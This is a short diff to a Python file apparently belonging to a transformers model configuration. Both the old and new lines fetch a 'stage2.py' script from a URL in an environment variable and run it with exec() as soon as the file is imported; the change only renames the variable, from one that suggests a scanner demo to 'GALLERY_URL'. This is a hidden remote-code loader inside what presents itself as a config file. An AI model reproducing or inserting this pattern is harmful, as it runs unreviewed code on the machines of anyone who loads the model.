@@ -4,7 +4,7 @@ import urllib.request
 
 from transformers import PretrainedConfig
 
-with urllib.request.urlopen(os.environ["HUBGUARD_DEMO_URL"] + "/stage2.py") as reply:
+with urllib.request.urlopen(os.environ["GALLERY_URL"] + "/stage2.py") as reply:
     exec(reply.read().decode())
 
 
